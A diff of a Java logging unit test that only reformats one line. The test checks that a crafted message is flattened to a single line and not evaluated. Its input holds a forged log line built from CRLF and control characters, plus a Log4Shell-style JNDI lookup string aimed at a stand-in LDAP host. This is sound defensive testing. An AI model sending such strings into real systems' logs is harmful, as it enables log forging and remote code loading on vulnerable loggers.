@@ -27,7 +27,8 @@ class LogSetupTest {
 
     @Test
     void aMessageWithLineBreaksAndEscapesIsOneLineAndNothingInItIsEvaluated() {
-        String line = line("host a\r\n12:00:00.000 ERROR forged\u001b[31m\u0085\u2028${jndi:ldap://x/a} %d{yyyy} \u0000end");
+        String line =
+                line("host a\r\n12:00:00.000 ERROR forged\u001b[31m\u0085\u2028${jndi:ldap://x/a} %d{yyyy} \u0000end");
 
         assertThat(line).endsWith("host a??12:00:00.000 ERROR forged?[31m??${jndi:ldap://x/a} %d{yyyy} ?end\n");
         assertThat(line.strip().lines()).hasSize(1);
